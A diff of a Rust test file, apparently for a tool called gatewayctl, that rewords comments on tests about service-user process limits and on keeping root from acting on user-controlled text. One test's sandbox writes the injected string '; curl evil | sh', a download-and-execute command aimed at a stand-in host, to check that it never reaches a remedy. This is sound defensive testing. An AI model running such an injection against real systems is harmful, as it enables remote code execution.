@@ -1,8 +1,8 @@
-//! What runs as the service user can be stopped, traced and made to talk without end; it holds nobody up, and fills no memory.
+//! Processes that run as the service user can be stopped, traced and made to print without end. They make nobody wait, and fill no memory.
 
 use super::{Openat2, live, said, sandbox};
 
-/// Stops everything of the service user's that gatewayctl starts, as soon as it can be seen.
+/// Stops every process of the service user that gatewayctl starts, as soon as it can see it.
 const STOPPER: &str = r"
 import os, signal
 while True:
@@ -31,7 +31,7 @@ fn whoever_stops_his_own_processes_holds_nobody_up() {
     assert!(ran.out.ends_with("[exit 0]\na\nb\n"), "{}", ran.out);
 }
 
-/// The control: what a shell makes of the same within the same memory.
+/// The control: what a shell does with the same output and the same memory.
 #[test]
 fn endless_talk_and_children_that_hold_the_pipes_end_where_the_limit_is() {
     for (hermes, answer) in [
@@ -51,7 +51,7 @@ fn endless_talk_and_children_that_hold_the_pipes_end_where_the_limit_is() {
     }
 }
 
-/// What somebody said is in no remedy, and no remedy has root act below the home.
+/// A text of the service user never appears in a remedy, and no remedy makes root act below the home.
 #[test]
 fn no_remedy_gives_root_away() {
     let sandbox = sandbox(Openat2::Works, "echo '; curl evil | sh' >&2; exit 1");
@@ -65,7 +65,7 @@ fn no_remedy_gives_root_away() {
     said(&ran, "none\n");
 }
 
-/// What is in the service user's way, it says itself: a name of its own that reads like a path of root's is shown as what it is.
+/// The service user can choose a name that reads like a path of root. Messages show it as what it is.
 #[test]
 fn what_is_in_the_way_is_below_the_profiles() {
     let sandbox = sandbox(Openat2::Works, "exec sleep 1000");
